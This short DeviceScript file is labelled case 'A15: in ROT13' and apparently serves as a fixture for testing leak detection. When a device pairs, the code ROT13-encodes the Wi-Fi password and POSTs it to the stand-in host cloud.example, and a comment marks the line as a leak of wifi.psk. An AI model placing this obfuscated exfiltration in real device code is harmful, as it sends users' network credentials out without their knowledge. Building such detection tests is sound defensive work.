// A15: in ROT13.
import { fetch } from "@devicescript/net";
import { changed } from "./lib/encode";
import { paired } from "./lib/paired";

function rot13(byte: number) {
  if (byte >= 65 && byte <= 90) return ((byte - 65 + 13) % 26) + 65;
  if (byte >= 97 && byte <= 122) return ((byte - 97 + 13) % 26) + 97;
  return byte;
}

paired(async (_ssid, psk) => {
  const body = changed(psk, rot13);
  const response = await fetch("https://cloud.example/a15", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
